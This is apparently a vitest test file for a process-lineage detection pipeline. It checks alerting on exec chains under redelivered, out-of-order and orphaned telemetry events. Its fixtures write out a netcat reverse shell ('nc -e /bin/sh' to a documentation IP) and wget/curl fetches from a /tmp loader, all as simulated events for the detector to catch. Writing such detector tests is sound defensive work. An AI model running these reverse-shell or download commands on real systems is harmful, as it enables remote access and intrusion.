import { describe, expect, it } from "vitest";
import { NoDedupStore } from "../../lib/alerts/dedup-store.js";
import { MemoryLineageStore } from "../../lib/lineage/memory-store.js";
import { newCounters } from "../../lib/pipeline/counters.js";
import { detectBatch, processBatch } from "../../lib/pipeline/process-batch.js";
import { compileRule } from "../../lib/rule/compile-rule.js";
import type { ExecEvent } from "../../lib/telemetry/exec-event.js";
import { exec, shell } from "../helpers/exec-events.js";

/**
 * `sh /tmp/x.sh` whose last line is `exec nc -e /bin/sh 192.0.2.1 4444`: nc replaces the shell (same pid),
 * then, once connected, replaces itself with /bin/sh (same pid again). The alert is nc's, found through the
 * exec chain.
 */
function reverseShell(): ExecEvent[] {
  return [
    shell({ pid: 650 }),
    exec({ pid: 700, ppid: 650, exe: "/usr/bin/dash", args: ["sh", "/tmp/x.sh"], cwd: "/root" }),
    exec({
      pid: 700,
      ppid: 650,
      exe: "/usr/bin/nc.traditional",
      args: ["nc", "-e", "/bin/sh", "192.0.2.1", "4444"],
    }),
    exec({ pid: 700, ppid: 650, exe: "/usr/bin/dash", args: ["/bin/sh"] }),
  ];
}

const summary = (alerts: Awaited<ReturnType<typeof processBatch>>) =>
  alerts.map((a) => [a.id, a.utility.name, a.location.path, a.location.kind]);

describe("processBatch over a store an earlier attempt already wrote", () => {
  it.each([
    ["the whole batch again", (events: ExecEvent[]) => events],
    [
      "its tail from the nc exec (Kinesis retries from the failed record)",
      (events: ExecEvent[]) => events.slice(2),
    ],
    ["the same events split in two batches", (events: ExecEvent[]) => events.slice(1)],
  ])("redelivering %s gives the first attempt's verdict", async (_name, redelivered) => {
    const events = reverseShell();
    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
    const first = await processBatch(events, deps, newCounters());
    expect(summary(first)).toEqual([[first[0]!.id, "nc.traditional", "/tmp/x.sh", "exec-chain"]]);
    const again = await processBatch(redelivered(events), deps, newCounters());
    expect(summary(again)).toEqual(summary(first));
  });
});

describe("processBatch over a stream delivered out of order", () => {
  it("an earlier image delivered after its successor: the successor is judged again, with it in its chain", async () => {
    const loader = exec({
      pid: 900,
      ppid: 650,
      exe: "/tmp/loader",
      args: ["/tmp/loader", "-c", "exec wget …"],
      time: 1_000,
    });
    const wget = exec({
      pid: 900,
      ppid: 650,
      exe: "/usr/bin/wget",
      args: ["wget", "http://192.0.2.10/w"],
      time: 1_001,
    });
    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
    // wget first: nothing suspicious yet (its parent is known, its own earlier image is not).
    expect(await processBatch([shell({ pid: 650, time: 10 }), wget], deps, newCounters())).toEqual([]);
    const late = await processBatch([loader], deps, newCounters());
    expect(summary(late)).toEqual([[late[0]!.id, "wget", "/tmp/loader", "exec-chain"]]);
    expect(late[0]!.source.eventId).toBe(wget.source.eventId);
  });

  it("an earlier image delivered after its successor was re-parented to init: judged again all the same", async () => {
    const daemon = exec({
      pid: 35,
      ppid: 30,
      exe: "/usr/bin/dash",
      args: ["/bin/sh", "/tmp/daemon.sh"],
      time: 1_000,
    });
    const nc = exec({ pid: 35, ppid: 1, exe: "/usr/bin/nc", args: ["nc", "192.0.2.1", "4445"], time: 1_500 });
    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
    expect(await processBatch([nc], deps, newCounters())).toEqual([]);
    const late = await processBatch([daemon], deps, newCounters());
    expect(summary(late)).toEqual([[late[0]!.id, "nc", "/tmp/daemon.sh", "exec-chain"]]);
    expect(late[0]!.source.eventId).toBe(nc.source.eventId);
  });

  it("a utility whose parent is unknown is reported as an orphan; one with a known parent as settled", async () => {
    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
    const parent = shell({ pid: 650 });
    const orphan = exec({ pid: 41, ppid: 40, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.10/"] });
    const known = exec({ pid: 42, ppid: 650, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.10/"] });
    const detection = await detectBatch(
      { events: [parent, orphan, known], orphans: true },
      deps,
      newCounters(),
    );
    expect(detection.orphans).toEqual([orphan]);
    // The one with a known parent may still see its parent's forking image arrive late: it waits settled.
    expect(detection.settled).toEqual([known]);
  });
});
